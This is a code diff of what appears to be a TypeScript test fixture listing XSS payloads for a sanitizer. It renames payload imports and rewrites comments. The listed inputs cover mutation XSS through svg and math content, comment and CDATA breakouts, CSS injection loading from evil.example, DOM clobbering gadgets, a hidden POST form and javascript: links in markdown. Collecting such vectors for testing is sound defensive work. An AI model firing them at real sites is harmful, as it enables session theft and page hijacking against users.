@@ -1,39 +1,39 @@
-import { image, javascript, run, script } from './run.ts'
+import { imagePayload, javascriptUrl, payload, scriptPayload } from './payload.ts'
 
-/** In foreign content, and where a text is parsed, printed and parsed again, the rules of HTML change half-way. */
+/** Foreign content and mutation XSS: the parsing rules change within the text. */
 const foreign = [
-  `<svg>${script}</svg>`,
-  `<svg><script href="data:text/javascript,${run}"/>`,
+  `<svg>${scriptPayload}</svg>`,
+  `<svg><script href="data:text/javascript,${payload}"/>`,
   `<svg><script>&#116;op.owned=1</script>`,
-  `<svg><style>${image}</style></svg>`,
-  `<svg><a><animate attributeName=href values=${javascript} /><text x=9 y=9>Listen</text></a>`,
-  `<svg><set attributeName=onmouseover to=${run}>`,
-  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${run}'/></svg>#x">`,
-  `<svg><foreignObject><iframe srcdoc="${script}"></foreignObject>`,
-  `<svg><title><![CDATA[</title>${image}]]></title>`,
-  `<svg></p><style><a id="</style>${image}">`,
-  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
-  `<math><annotation-xml encoding="text/html"><style>${image}</style>`,
-  `<form><math><mtext></form><form><mglyph><style></math>${image}`,
-  `<noscript><p title="</noscript>${image}">`,
-  `<xmp><p title="</xmp>${image}">`,
-  `<textarea><p title="</textarea>${image}">`,
-  `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
-  `<template shadowrootmode=open>${image}</template>`,
-  `<select><template>${image}</template></select>`,
-  `<table><caption><svg><desc><td>${image}`,
-  `<p id="</p>${image}">`,
-  `<img title="${image}">`,
-  `<![CDATA[${script}]]>`,
-  `<!-->${image}-->`,
-  `<!--->${image}-->`,
-  `<!--<img src="-->${image}//">`,
-  `<!--<script>${run}`,
-  `<?xml-stylesheet href="${javascript}"?>`,
-  `<!DOCTYPE x [<!ENTITY e "${script}">]>&e;`,
-  `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${run}</x:script>`,
-  `</br/>${image}`,
-  `<iframe srcdoc="&lt;script&gt;${run}&lt;/script&gt;"></iframe>`,
+  `<svg><style>${imagePayload}</style></svg>`,
+  `<svg><a><animate attributeName=href values=${javascriptUrl} /><text x=9 y=9>Listen</text></a>`,
+  `<svg><set attributeName=onmouseover to=${payload}>`,
+  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${payload}'/></svg>#x">`,
+  `<svg><foreignObject><iframe srcdoc="${scriptPayload}"></foreignObject>`,
+  `<svg><title><![CDATA[</title>${imagePayload}]]></title>`,
+  `<svg></p><style><a id="</style>${imagePayload}">`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${payload}&gt;">`,
+  `<math><annotation-xml encoding="text/html"><style>${imagePayload}</style>`,
+  `<form><math><mtext></form><form><mglyph><style></math>${imagePayload}`,
+  `<noscript><p title="</noscript>${imagePayload}">`,
+  `<xmp><p title="</xmp>${imagePayload}">`,
+  `<textarea><p title="</textarea>${imagePayload}">`,
+  `<listing>&lt;img src=x onerror=${payload}&gt;</listing>`,
+  `<template shadowrootmode=open>${imagePayload}</template>`,
+  `<select><template>${imagePayload}</template></select>`,
+  `<table><caption><svg><desc><td>${imagePayload}`,
+  `<p id="</p>${imagePayload}">`,
+  `<img title="${imagePayload}">`,
+  `<![CDATA[${scriptPayload}]]>`,
+  `<!-->${imagePayload}-->`,
+  `<!--->${imagePayload}-->`,
+  `<!--<img src="-->${imagePayload}//">`,
+  `<!--<script>${payload}`,
+  `<?xml-stylesheet href="${javascriptUrl}"?>`,
+  `<!DOCTYPE x [<!ENTITY e "${scriptPayload}">]>&e;`,
+  `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${payload}</x:script>`,
+  `</br/>${imagePayload}`,
+  `<iframe srcdoc="&lt;script&gt;${payload}&lt;/script&gt;"></iframe>`,
 ]
 
 const styles = [
@@ -41,15 +41,15 @@ const styles = [
   '}</style><style>body{visibility:hidden}</style>',
   "<style>@import'//evil.example/x.css';</style>",
   '<link rel=stylesheet href=//evil.example/x.css>',
-  `<div style="background:url(${javascript})">`,
-  `<div style="width:expression(${run})">`,
+  `<div style="background:url(${javascriptUrl})">`,
+  `<div style="width:expression(${payload})">`,
   '<div style="position:fixed;inset:0;z-index:9999;background:red">',
   '<p style="width:99999px;height:99999px">',
   '*{background:url(//evil.example/x.png)}',
   'color:red;/*"*/}a[href^=h]{background:url(//evil.example)}',
 ]
 
-/** Elements that answer to names which a script of ours might ask for, and policies that would let it be fooled. */
+/** DOM clobbering of names that our scripts may use, and policies that weaken ours. */
 const gadgets = [
   '<a id=trustedTypes><a id=trustedTypes name=createPolicy href=x>',
   '<form id=document><input name=body><input name=attributes>',
@@ -72,19 +72,19 @@ const gadgets = [
   '<article class=tx id=t-0 data-id=0 data-at=0 data-flags=verified tabindex=-1>Verified</article>',
   '<form method=post action=/me><input name=forget value=1><button>Listen</button></form>',
   '{"@context":"https://schema.org","@type":"Person","name":"Not Longwave"}',
-  `"},"headline":"</script>${script}`,
+  `"},"headline":"</script>${scriptPayload}`,
 ]
 
 const mixtures = [
-  `[Listen](${javascript})`,
-  `![Listen](${javascript})`,
-  `[Listen](data:text/html,${script})`,
-  `[Listen][1]\n\n[1]: ${javascript}`,
-  `<${javascript}>`,
-  `[url=${javascript}]Listen[/url]`,
-  `\`\`\`html\n${script}\n\`\`\``,
-  `**${image}** _${script}_`,
-  `# <h1>${run}</h1>\n| a | <b>b |\n|---|---|`,
+  `[Listen](${javascriptUrl})`,
+  `![Listen](${javascriptUrl})`,
+  `[Listen](data:text/html,${scriptPayload})`,
+  `[Listen][1]\n\n[1]: ${javascriptUrl}`,
+  `<${javascriptUrl}>`,
+  `[url=${javascriptUrl}]Listen[/url]`,
+  `\`\`\`html\n${scriptPayload}\n\`\`\``,
+  `**${imagePayload}** _${scriptPayload}_`,
+  `# <h1>${payload}</h1>\n| a | <b>b |\n|---|---|`,
   '<b>bold</b> <i>italic</i> <u>under</u>',
   '<h1>Longwave is closed</h1>',
   '<center><font size=7 color=red>LOUD</font></center>',
@@ -112,5 +112,5 @@ const mixtures = [
   '[object Object]',
 ]
 
-/** What would change the document around the text. */
+/** Markup that changes the document around the text. */
 export const documents: string[] = [...foreign, ...styles, ...gadgets, ...mixtures]
